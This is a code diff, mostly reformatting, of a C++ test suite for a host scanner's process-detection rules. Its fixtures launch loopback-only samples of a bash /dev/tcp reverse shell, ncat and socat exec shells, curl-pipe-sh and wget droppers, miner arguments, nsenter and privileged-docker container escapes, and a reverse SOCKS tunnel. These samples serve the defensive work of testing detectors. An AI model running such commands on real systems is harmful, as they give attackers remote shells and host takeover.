@@ -6,11 +6,11 @@
 // See rules_fixture.h. Tests that need root skip with the reason otherwise.
 #include <dlfcn.h>
 #include <pty.h>
+#include <sched.h>
 #include <sys/mount.h>
 #include <sys/stat.h>
 #include <sys/statvfs.h>
 #include <sys/utsname.h>
-#include <sched.h>
 #include <unistd.h>
 
 #include <cerrno>
@@ -24,8 +24,12 @@ namespace {
 
 constexpr uid_t kNobody = 65534;
 
-std::string Sleep() { return SystemBinary("sleep"); }
-std::string Bash() { return SystemBinary("bash"); }
+std::string Sleep() {
+  return SystemBinary("sleep");
+}
+std::string Bash() {
+  return SystemBinary("bash");
+}
 
 bool EndsWith(const std::string& s, const std::string& suffix) {
   return s.size() >= suffix.size() && s.compare(s.size() - suffix.size(), suffix.size(), suffix) == 0;
@@ -51,9 +55,9 @@ pid_t ChildNamed(pid_t parent, const std::string& comm) {
   return child.value_or(-1);
 }
 
-#define SKIP_UNLESS_ROOT(why)                                            \
-  do {                                                                   \
-    if (!IsRoot()) GTEST_SKIP() << "needs root: " << (why);              \
+#define SKIP_UNLESS_ROOT(why)                               \
+  do {                                                      \
+    if (!IsRoot()) GTEST_SKIP() << "needs root: " << (why); \
   } while (0)
 
 // ---------------------------------------------------------------------------
@@ -192,8 +196,9 @@ struct ServerAndShell {
   pid_t child = -1;
 };
 
-ServerAndShell StartServerRunning(const ScratchDir& dir, const std::string& server_name, const std::string& argv0,
-                                  const std::string& script, const std::string& child_comm) {
+ServerAndShell StartServerRunning(const ScratchDir& dir, const std::string& server_name,
+                                  const std::string& argv0, const std::string& script,
+                                  const std::string& child_comm) {
   ServerAndShell s;
   const std::string bin = dir.File("srv/" + server_name);
   CopyExecutable(Bash(), bin);
@@ -271,7 +276,8 @@ TEST_F(RuleLiveTest, ProcCryptominerCmdline_Positive) {
   // The same options under an innocent name still give the miner away.
   const std::string bin2 = work().File("opt/dbus-helper");
   CopyExecutable(ProbeBin(), bin2);
-  auto p2 = TestProcess::Start(bin2, {"dbus-helper", "--url", "pool.supportxmr.com:443", "--cpu-max-threads-hint=75"});
+  auto p2 = TestProcess::Start(
+      bin2, {"dbus-helper", "--url", "pool.supportxmr.com:443", "--cpu-max-threads-hint=75"});
   ASSERT_TRUE(p && p2);
   auto r = ScanAndRun("proc-cryptominer-cmdline");
   ExpectOneRow(r, p->pid());
@@ -335,8 +341,8 @@ TEST_F(RuleLiveTest, ProcReverseShellSocketStdio_Negative) {
   // A service whose output goes to a socket (systemd's journal stream) but
   // reads /dev/null; a non-shell on a socket (inetd-style service); a shell
   // under sshd (ssh host 'cmd' uses socket pairs).
-  auto journal_like = TestProcess::Start("/bin/sh", {"sh", "-c", "sleep 1000; true"},
-                                         {.stdout_fd = fd, .stderr_fd = fd});
+  auto journal_like =
+      TestProcess::Start("/bin/sh", {"sh", "-c", "sleep 1000; true"}, {.stdout_fd = fd, .stderr_fd = fd});
   auto service = TestProcess::Start(Sleep(), {"sleep", "1000"}, {.stdin_fd = fd, .stdout_fd = fd});
   const std::string sshd = work().File("sbin/sshd");
   CopyExecutable(Bash(), sshd);
@@ -357,7 +363,8 @@ TEST_F(RuleLiveTest, ProcNetcatExec_Positive) {
   CopyExecutable(ProbeBin(), ncat);
   CopyExecutable(ProbeBin(), socat);
   auto nc = TestProcess::Start(ncat, {"ncat", "127.0.0.1", "4444", "-e", "/bin/sh"});
-  auto so = TestProcess::Start(socat, {"socat", "TCP:127.0.0.1:4444", "EXEC:/bin/bash -li,pty,stderr,setsid"});
+  auto so =
+      TestProcess::Start(socat, {"socat", "TCP:127.0.0.1:4444", "EXEC:/bin/bash -li,pty,stderr,setsid"});
   ASSERT_TRUE(nc && so);
   auto r = ScanAndRun("proc-netcat-exec");
   ExpectOneRow(r, nc->pid());
@@ -382,8 +389,8 @@ TEST_F(RuleLiveTest, ProcReverseShellCmdline_Positive) {
   // A real bash /dev/tcp reverse shell to a loopback listener of this test.
   LoopbackConnection conn;
   ASSERT_TRUE(conn.ok());
-  const std::string script = "exec 5<>/dev/tcp/127.0.0.1/" + std::to_string(conn.port()) +
-                             "; cat <&5 | /bin/sh 2>&5 >&5";
+  const std::string script =
+      "exec 5<>/dev/tcp/127.0.0.1/" + std::to_string(conn.port()) + "; cat <&5 | /bin/sh 2>&5 >&5";
   auto p = TestProcess::Start(Bash(), {"bash", "-c", script});
   ASSERT_NE(p, nullptr);
   ChildNamed(p->pid(), "cat");  // the connection is up and the relay runs
@@ -392,7 +399,8 @@ TEST_F(RuleLiveTest, ProcReverseShellCmdline_Positive) {
 }
 
 TEST_F(RuleLiveTest, ProcReverseShellCmdline_Negative) {
-  auto relay = TestProcess::Start(Bash(), {"bash", "-c", "exec 5</dev/null; cat <&5 | /bin/sh; sleep 1000; true"});
+  auto relay =
+      TestProcess::Start(Bash(), {"bash", "-c", "exec 5</dev/null; cat <&5 | /bin/sh; sleep 1000; true"});
   ASSERT_NE(relay, nullptr);
   std::vector<pid_t> pids{relay->pid()};
   std::unique_ptr<TestProcess> py;
@@ -415,10 +423,10 @@ TEST_F(RuleLiveTest, ProcReverseShellCmdline_Negative) {
 TEST_F(RuleLiveTest, ProcDownloadAndExecute_Positive) {
   auto piped = TestProcess::Start(
       Bash(), {"bash", "-c", "curl -fsSL http://127.0.0.1:9/install.sh | sh; sleep 1000; true"});
-  auto dropped = TestProcess::Start(
-      Bash(), {"bash", "-c",
-               "wget -q -O " + work().File(".x") + " http://127.0.0.1:9/x; chmod +x " + work().File(".x") +
-                   "; sleep 1000; true"});
+  auto dropped =
+      TestProcess::Start(Bash(), {"bash", "-c",
+                                  "wget -q -O " + work().File(".x") + " http://127.0.0.1:9/x; chmod +x " +
+                                      work().File(".x") + "; sleep 1000; true"});
   ASSERT_TRUE(piped && dropped);
   ChildNamed(piped->pid(), "sleep");
   ChildNamed(dropped->pid(), "sleep");
@@ -450,7 +458,8 @@ TEST_F(RuleLiveTest, ProcEncodedPayloadExec_Positive) {
 }
 
 TEST_F(RuleLiveTest, ProcEncodedPayloadExec_Negative) {
-  auto p = TestProcess::Start(Bash(), {"bash", "-c", "echo c2xlZXAgMTAwMAo= | base64 -d > /dev/null; sleep 1000; true"});
+  auto p = TestProcess::Start(
+      Bash(), {"bash", "-c", "echo c2xlZXAgMTAwMAo= | base64 -d > /dev/null; sleep 1000; true"});
   ASSERT_NE(p, nullptr);
   ChildNamed(p->pid(), "sleep");
   ExpectNoRows(ScanAndRun("proc-encoded-payload-exec"), {p->pid()});
@@ -493,7 +502,9 @@ TEST_F(RuleLiveTest, ProcSetuidRootUnexpected_Positive) {
   auto p = TestProcess::Start(bin, {"bash-suid", "-p"}, {.uid = kNobody});
   ASSERT_NE(p, nullptr);
   ASSERT_TRUE(WaitUntil([&] { return EffectiveUid(p->pid()).has_value(); }));
-  if (EffectiveUid(p->pid()) != 0u) {
+  // The exec reports success (close-on-exec pipe) a moment before the kernel
+  // commits the new credentials: give it that moment before concluding.
+  if (!WaitUntil([&] { return EffectiveUid(p->pid()) == 0u; }, std::chrono::seconds(2))) {
     GTEST_SKIP() << work().path() << " is on a nosuid file system: the setuid bit has no effect here";
   }
   auto row = ExpectOneRow(ScanAndRun("proc-setuid-root-unexpected"), p->pid());
@@ -506,7 +517,7 @@ TEST_F(RuleLiveTest, ProcSetuidRootUnexpected_Negative) {
   const std::string plain = RootOwnedCopy(work(), "plain-tool", 0755);
   const std::string suid = RootOwnedCopy(work(), "suid-tool", 04755);
   auto as_nobody = TestProcess::Start(plain, {"plain-tool"}, {.uid = kNobody});  // no setuid bit
-  auto as_root = TestProcess::Start(suid, {"suid-tool"});                         // root running it
+  auto as_root = TestProcess::Start(suid, {"suid-tool"});                        // root running it
   ASSERT_TRUE(as_nobody && as_root);
   ExpectNoRows(ScanAndRun("proc-setuid-root-unexpected"), {as_nobody->pid(), as_root->pid()});
 }
@@ -522,10 +533,11 @@ TEST_F(RuleLiveTest, ProcContainerEscapeCmdline_Positive) {
   const std::string docker = work().File("bin/docker");
   CopyExecutable(ProbeBin(), nsenter);
   CopyExecutable(ProbeBin(), docker);
-  auto ns = TestProcess::Start(nsenter, {"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "/bin/bash"});
+  auto ns =
+      TestProcess::Start(nsenter, {"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "/bin/bash"});
   auto ns2 = TestProcess::Start(nsenter, {"nsenter", "--target=1", "--all", "/bin/sh"});
-  auto dk = TestProcess::Start(docker, {"docker", "run", "--rm", "-it", "--privileged", "--pid=host", "-v", "/:/host",
-                                        "alpine", "chroot", "/host"});
+  auto dk = TestProcess::Start(docker, {"docker", "run", "--rm", "-it", "--privileged", "--pid=host", "-v",
+                                        "/:/host", "alpine", "chroot", "/host"});
   ASSERT_TRUE(ns && ns2 && dk);
   auto r = ScanAndRun("proc-container-escape-cmdline");
   ExpectOneRow(r, ns->pid());
@@ -539,7 +551,8 @@ TEST_F(RuleLiveTest, ProcContainerEscapeCmdline_Negative) {
   CopyExecutable(ProbeBin(), nsenter);
   CopyExecutable(ProbeBin(), docker);
   auto ns = TestProcess::Start(nsenter, {"nsenter", "-t", "4242", "-n", "--", "ip", "addr"});
-  auto dk = TestProcess::Start(docker, {"docker", "run", "--rm", "-v", "/srv/data:/data", "alpine", "ls", "/data"});
+  auto dk =
+      TestProcess::Start(docker, {"docker", "run", "--rm", "-v", "/srv/data:/data", "alpine", "ls", "/data"});
   ASSERT_TRUE(ns && dk);
   ExpectNoRows(ScanAndRun("proc-container-escape-cmdline"), {ns->pid(), dk->pid()});
 }
@@ -603,9 +616,10 @@ struct SwappedPair {
 };
 
 // Runs in the forked holder: never returns.
-[[noreturn]] void HoldSwappedPair(const std::string& target, const std::string& replacement, bool start_original,
-                                  int report_fd) {
-  if (::unshare(CLONE_NEWNS) != 0 || ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0) _exit(3);
+[[noreturn]] void HoldSwappedPair(const std::string& target, const std::string& replacement,
+                                  bool start_original, int report_fd) {
+  if (::unshare(CLONE_NEWNS) != 0 || ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0)
+    _exit(3);
   auto spawn = [&](const char* name) {
     pid_t c = ::fork();
     if (c == 0) {
@@ -677,7 +691,8 @@ TEST_F(RuleLiveTest, ProcExeHashMismatch_Negative) {
   auto host_side = TestProcess::Start(target, {"x", "1000"});
   SwappedPair pair = StartSwappedPair(target, replacement, /*start_original=*/false);
   ASSERT_TRUE(one && two && host_side && pair.holder && pair.swapped > 0);
-  ExpectNoRows(ScanAndRun("proc-exe-hash-mismatch"), {one->pid(), two->pid(), host_side->pid(), pair.swapped});
+  ExpectNoRows(ScanAndRun("proc-exe-hash-mismatch"),
+               {one->pid(), two->pid(), host_side->pid(), pair.swapped});
 }
 
 // ---------------------------------------------------------------------------
@@ -698,8 +713,11 @@ TEST_F(RuleLiveTest, ProcServiceAccountInteractiveShell_Positive) {
   ASSERT_GE(pty.slave, 0);
   ASSERT_EQ(::fchown(pty.slave, kNobody, kNobody), 0);
   auto p = TestProcess::Start("/bin/sh", {"sh", "-i"},
-                              {.stdin_fd = pty.slave, .stdout_fd = pty.slave, .stderr_fd = pty.slave,
-                               .uid = kNobody, .controlling_tty = pty.slave});
+                              {.stdin_fd = pty.slave,
+                               .stdout_fd = pty.slave,
+                               .stderr_fd = pty.slave,
+                               .uid = kNobody,
+                               .controlling_tty = pty.slave});
   ASSERT_NE(p, nullptr);
   auto row = ExpectOneRow(ScanAndRun("proc-service-account-interactive-shell"), p->pid());
   EXPECT_EQ(row.value("user_id", int64_t{-1}), kNobody);
@@ -711,9 +729,9 @@ TEST_F(RuleLiveTest, ProcServiceAccountInteractiveShell_Negative) {
   Pty pty;
   ASSERT_GE(pty.slave, 0);
   // root at a terminal; nobody running a non-interactive script.
-  auto admin = TestProcess::Start("/bin/sh", {"sh", "-i"},
-                                  {.stdin_fd = pty.slave, .stdout_fd = pty.slave, .stderr_fd = pty.slave,
-                                   .controlling_tty = pty.slave});
+  auto admin = TestProcess::Start(
+      "/bin/sh", {"sh", "-i"},
+      {.stdin_fd = pty.slave, .stdout_fd = pty.slave, .stderr_fd = pty.slave, .controlling_tty = pty.slave});
   auto script = TestProcess::Start("/bin/sh", {"sh", "-c", "sleep 1000; true"}, {.uid = kNobody});
   ASSERT_TRUE(admin && script);
   ExpectNoRows(ScanAndRun("proc-service-account-interactive-shell"), {admin->pid(), script->pid()});
@@ -758,7 +776,8 @@ TEST_F(RuleLiveTest, ProcTunnelingTool_Positive) {
   // Renamed, the reverse-SOCKS syntax still shows.
   const std::string renamed = work().File("bin/updater");
   CopyExecutable(ProbeBin(), renamed);
-  auto p2 = TestProcess::Start(renamed, {"updater", "client", "--keepalive", "25s", "127.0.0.1:443", "R:socks"});
+  auto p2 =
+      TestProcess::Start(renamed, {"updater", "client", "--keepalive", "25s", "127.0.0.1:443", "R:socks"});
   ASSERT_TRUE(p && p2);
   auto r = ScanAndRun("proc-tunneling-tool");
   ExpectOneRow(r, p->pid());
